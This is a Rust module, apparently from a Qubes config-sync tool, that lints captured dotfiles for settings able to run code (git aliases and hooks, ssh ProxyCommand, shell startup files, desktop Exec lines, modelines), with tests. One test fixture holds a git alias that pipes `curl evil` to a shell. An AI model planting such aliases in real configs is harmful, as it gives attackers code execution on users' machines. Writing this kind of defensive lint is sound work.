//! Risk lint for captured files: flags what can make a program run code.
//!
//! Captured files come from ordinary (less trusted) qubes. Before one enters
//! the config repository it is shown with these findings, so a planted
//! `core.sshCommand` or `ProxyCommand` does not silently spread to every
//! qube the file is synced to.

/// One finding.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Finding {
    /// 1-based line (0 for a whole-file finding).
    pub line: usize,
    /// Short rule name (`git-alias-shell`, `ssh-proxycommand`, ...).
    pub rule: &'static str,
    /// What it means.
    pub message: String,
}

/// Largest content linted (bigger files get one finding saying so).
pub const MAX_LINT_BYTES: usize = 4 * 1024 * 1024;

fn name_of(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Lints `content` of the file at `path` (a path as in the target, e.g.
/// `~/.gitconfig`).
pub fn lint(path: &str, content: &[u8]) -> Vec<Finding> {
    let mut out = Vec::new();
    let name = name_of(path);
    let lower = path.to_ascii_lowercase();
    if content.len() > MAX_LINT_BYTES {
        out.push(Finding {
            line: 0,
            rule: "too-large",
            message: "file too large to lint; review it by hand".into(),
        });
        return out;
    }
    let Ok(text) = std::str::from_utf8(content) else {
        out.push(Finding {
            line: 0,
            rule: "binary",
            message: "binary content cannot be reviewed as text".into(),
        });
        return out;
    };
    let is_git = name == ".gitconfig"
        || lower.ends_with("/git/config")
        || lower.ends_with(".git/config")
        || name == ".gitmodules";
    let is_ssh = lower.contains(".ssh/config")
        || lower.ends_with("ssh_config")
        || lower.contains("/ssh/ssh_config.d/");
    let shell_rc = [
        ".bashrc",
        ".bash_profile",
        ".bash_login",
        ".bash_logout",
        ".profile",
        ".zshrc",
        ".zshenv",
        ".zprofile",
        ".zlogin",
        ".zlogout",
        ".kshrc",
        ".mkshrc",
        ".xprofile",
        ".xinitrc",
        ".xsession",
        ".inputrc",
    ];
    if shell_rc.contains(&name)
        || lower.contains("/.config/fish/")
        || lower.contains("/profile.d/")
        || lower.ends_with("/bashrc")
    {
        out.push(Finding {
            line: 0,
            rule: "shell-rc",
            message: "shell startup file: every line runs as code at login".into(),
        });
    }
    if lower.contains("/.config/autostart/") || lower.contains("/systemd/user/") {
        out.push(Finding {
            line: 0,
            rule: "autostart",
            message: "started automatically at session start".into(),
        });
    }
    let is_desktop = name.ends_with(".desktop");
    let mut git_section = String::new();
    for (i, raw) in text.lines().enumerate() {
        let n = i + 1;
        let line = raw.trim();
        let l = line.to_ascii_lowercase();
        // Editor modelines (vim, emacs) anywhere in any file.
        if l.contains("vim:")
            && (l.contains(" set ") || l.contains(":set ") || l.contains("vim: set"))
            || l.contains("vi:") && l.contains("set ")
            || l.contains("-*-") && l.contains("-*-") && l.matches("-*-").count() >= 2
            || l.starts_with("ex:")
            || l.contains("local variables:")
        {
            out.push(Finding {
                line: n,
                rule: "modeline",
                message: "editor modeline: editors may execute or change settings from it".into(),
            });
        }
        if is_git {
            if l.starts_with('[') {
                git_section = l
                    .trim_start_matches('[')
                    .split(']')
                    .next()
                    .unwrap_or("")
                    .split_whitespace()
                    .next()
                    .unwrap_or("")
                    .to_owned();
                if git_section == "include" || git_section == "includeif" {
                    out.push(Finding {
                        line: n,
                        rule: "git-include",
                        message: "include section pulls in another config file".into(),
                    });
                }
                continue;
            }
            let key = l.split('=').next().unwrap_or("").trim();
            let val = line.split_once('=').map(|x| x.1.trim()).unwrap_or("");
            let full = format!("{git_section}.{key}");
            match full.as_str() {
                _ if git_section == "alias" && val.trim_start_matches('"').starts_with('!') => out
                    .push(Finding {
                        line: n,
                        rule: "git-alias-shell",
                        message: "git alias starting with `!` runs a shell command".into(),
                    }),
                "core.sshcommand" => out.push(Finding {
                    line: n,
                    rule: "git-sshcommand",
                    message: "core.sshCommand runs a program on every fetch/push".into(),
                }),
                "core.pager" => out.push(Finding {
                    line: n,
                    rule: "git-pager",
                    message: "core.pager runs a program".into(),
                }),
                "core.hookspath" => out.push(Finding {
                    line: n,
                    rule: "git-hookspath",
                    message: "core.hooksPath points git hooks (code) elsewhere".into(),
                }),
                "core.fsmonitor" => out.push(Finding {
                    line: n,
                    rule: "git-fsmonitor",
                    message: "core.fsmonitor runs a program on every status".into(),
                }),
                "core.editor" | "sequence.editor" | "diff.external" | "gpg.program"
                | "core.askpass" => out.push(Finding {
                    line: n,
                    rule: "git-program",
                    message: format!("{full} runs a program"),
                }),
                "include.path" | "includeif.path" => out.push(Finding {
                    line: n,
                    rule: "git-include",
                    message: "include.path pulls in another config file".into(),
                }),
                _ if git_section == "credential"
                    && (key == "helper" || key.ends_with(".helper")) =>
                {
                    out.push(Finding {
                        line: n,
                        rule: "git-credential-helper",
                        message: "credential.helper runs a program with your credentials".into(),
                    })
                }
                _ if git_section == "include" || git_section == "includeif" => {
                    if key == "path" {
                        out.push(Finding {
                            line: n,
                            rule: "git-include",
                            message: "include.path pulls in another config file".into(),
                        })
                    }
                }
                _ if (git_section == "filter"
                    || git_section == "diff"
                    || git_section == "merge")
                    && [
                        "clean", "smudge", "process", "textconv", "command", "driver",
                    ]
                    .contains(&key) =>
                {
                    out.push(Finding {
                        line: n,
                        rule: "git-driver",
                        message: format!("{git_section} driver `{key}` runs a program"),
                    })
                }
                _ => {}
            }
        }
        if is_ssh {
            let kw = l
                .split(|c: char| c.is_whitespace() || c == '=')
                .next()
                .unwrap_or("");
            match kw {
                "proxycommand" => out.push(Finding {
                    line: n,
                    rule: "ssh-proxycommand",
                    message: "ProxyCommand runs a program on connect".into(),
                }),
                "localcommand" | "permitlocalcommand" => out.push(Finding {
                    line: n,
                    rule: "ssh-localcommand",
                    message: "LocalCommand runs a program after connecting".into(),
                }),
                "match" if l.contains(" exec ") || l.contains(" exec=") || l.ends_with(" exec") => {
                    out.push(Finding {
                        line: n,
                        rule: "ssh-match-exec",
                        message: "Match exec runs a program to evaluate the match".into(),
                    })
                }
                "knownhostscommand" => out.push(Finding {
                    line: n,
                    rule: "ssh-knownhostscommand",
                    message: "KnownHostsCommand runs a program".into(),
                }),
                "include" => out.push(Finding {
                    line: n,
                    rule: "ssh-include",
                    message: "Include pulls in other config files".into(),
                }),
                "proxyjump" | "forwardagent" => out.push(Finding {
                    line: n,
                    rule: "ssh-forwarding",
                    message: format!("{kw} exposes this qube's ssh agent or routes connections"),
                }),
                _ => {}
            }
        }
        if is_desktop
            && (l.starts_with("exec=") || l.starts_with("tryexec=") || l.starts_with("exec["))
        {
            out.push(Finding {
                line: n,
                rule: "desktop-exec",
                message: "desktop entry Exec runs a program".into(),
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(path: &str, s: &str) -> Vec<&'static str> {
        lint(path, s.as_bytes())
            .into_iter()
            .map(|f| f.rule)
            .collect()
    }

    #[test]
    fn git_risks() {
        let g = "[alias]\n\tco = checkout\n\tx = !sh -c 'curl evil|sh'\n[core]\n\tsshCommand = ssh -o ProxyCommand=x\n\tpager = less\n\thooksPath = /tmp/h\n[credential]\n\thelper = store\n[include]\n\tpath = ~/.other\n";
        let r = rules("~/.gitconfig", g);
        for want in [
            "git-alias-shell",
            "git-sshcommand",
            "git-pager",
            "git-hookspath",
            "git-credential-helper",
            "git-include",
        ] {
            assert!(r.contains(&want), "{want} missing from {r:?}");
        }
        assert!(
            !rules(
                "~/.gitconfig",
                "[alias]\n co = checkout\n[user]\n name = A\n"
            )
            .iter()
            .any(|r| r.starts_with("git"))
        );
    }

    #[test]
    fn ssh_shell_desktop_modeline() {
        let r = rules(
            "~/.ssh/config",
            "Host x\n  ProxyCommand nc %h %p\n  LocalCommand id\nMatch exec \"true\"\n",
        );
        assert!(
            r.contains(&"ssh-proxycommand")
                && r.contains(&"ssh-localcommand")
                && r.contains(&"ssh-match-exec"),
            "{r:?}"
        );
        assert!(rules("~/.bashrc", "alias ll='ls -l'\n").contains(&"shell-rc"));
        assert!(
            rules(
                "~/.local/share/applications/a.desktop",
                "[Desktop Entry]\nExec=/bin/x\n"
            )
            .contains(&"desktop-exec")
        );
        assert!(rules("~/notes.txt", "# vim: set ft=sh :\n").contains(&"modeline"));
        assert!(rules("~/notes.txt", "just text\n").is_empty());
    }
}
